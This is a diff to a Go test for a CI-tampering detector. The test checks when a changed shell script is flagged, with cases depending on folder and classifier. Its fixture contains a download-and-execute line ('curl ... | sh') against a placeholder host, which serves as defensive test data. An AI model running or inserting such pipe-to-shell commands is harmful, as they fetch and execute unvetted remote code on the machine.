@@ -17,15 +17,21 @@ func TestCITamperingWithoutClassifier(t *testing.T) {
 	if len(fs) != 1 || fs[0].Severity != guard.High || fs[0].Line != 1 {
 		t.Fatalf("want one high finding at line 1, got %+v", fs)
 	}
-	// A build script outside any category is not scanned without a policy.
-	s := guard.FileChange{Path: "scripts/build.sh", Status: guard.Modified,
+	// A script outside any category and outside the folders CI scripts
+	// live in is not checked for downloads piped into a shell.
+	s := guard.FileChange{Path: "src/app/install.sh", Status: guard.Modified,
 		AddedLines: detectortest.Lines("curl https://x.example.org/i.sh | sh")}
 	if fs := detectortest.JudgeFiles(t, Detector, nil, s); len(fs) != 0 {
 		t.Errorf("uncategorized script: got %+v", fs)
 	}
-	cls := detectortest.PrefixClassifier{ByPrefix: map[string]string{"scripts/": guard.CategoryBuild}}
+	cls := detectortest.PrefixClassifier{ByPrefix: map[string]string{"src/": guard.CategoryBuild}}
 	if fs := detectortest.JudgeFiles(t, Detector, cls, s); len(fs) != 1 {
 		t.Errorf("build script: want 1 finding, got %+v", fs)
+	}
+	// A script in a folder CI scripts live in is, without a policy.
+	s.Path = "scripts/build.sh"
+	if fs := detectortest.JudgeFiles(t, Detector, nil, s); len(fs) != 1 {
+		t.Errorf("CI script: want 1 finding, got %+v", fs)
 	}
 }
 
